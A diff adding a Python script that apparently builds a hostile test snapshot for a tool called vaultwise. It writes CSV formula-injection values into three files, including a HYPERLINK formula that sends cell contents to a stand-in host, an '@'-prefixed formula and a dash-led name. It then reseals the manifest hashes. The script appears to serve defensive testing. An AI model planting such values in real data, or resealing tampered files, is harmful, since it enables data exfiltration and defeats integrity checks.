@@ -1,0 +1,50 @@
+# hostile_names.py: copies a snapshot directory and gives it the names an
+# attacker would choose (a formula, a leading @ and -), then reseals the
+# manifest's SHA-256 so that vaultwise reads it as a good snapshot.
+# Usage: python3 hostile_names.py SRC DST
+import csv
+import hashlib
+import json
+import os
+import shutil
+import sys
+
+FORMULA = '=HYPERLINK("http://x/?"&A1,"x")'
+
+
+def set_field(snap, name, key, key_value, column, value):
+    path = os.path.join(snap, name)
+    with open(path, newline='') as f:
+        rows = list(csv.reader(f))
+    head = rows[0]
+    for row in rows[1:]:
+        if row[head.index(key)] == key_value:
+            row[head.index(column)] = value
+    with open(path, 'w', newline='') as f:
+        csv.writer(f, lineterminator='\r\n').writerows(rows)
+
+
+def reseal(snap):
+    path = os.path.join(snap, 'manifest.json')
+    with open(path) as f:
+        manifest = json.load(f)
+    for name, entry in manifest['files'].items():
+        with open(os.path.join(snap, name), 'rb') as f:
+            entry['sha256'] = hashlib.sha256(f.read()).hexdigest()
+    with open(path, 'w') as f:
+        json.dump(manifest, f, indent=2)
+
+
+def main():
+    src, dst = sys.argv[1], sys.argv[2]
+    shutil.copytree(src, dst)
+    set_field(dst, 'items.csv', 'item_id', 'i-29087fb6ebce', 'item_name',
+              FORMULA)
+    set_field(dst, 'policies.csv', 'policy_id', 'p-2113ca6022f4',
+              'policy_name', '@SUM(1)')
+    set_field(dst, 'vaults.csv', 'vault_name', 'vault-dev', 'vault_name',
+              '-dev')
+    reseal(dst)
+
+
+main()
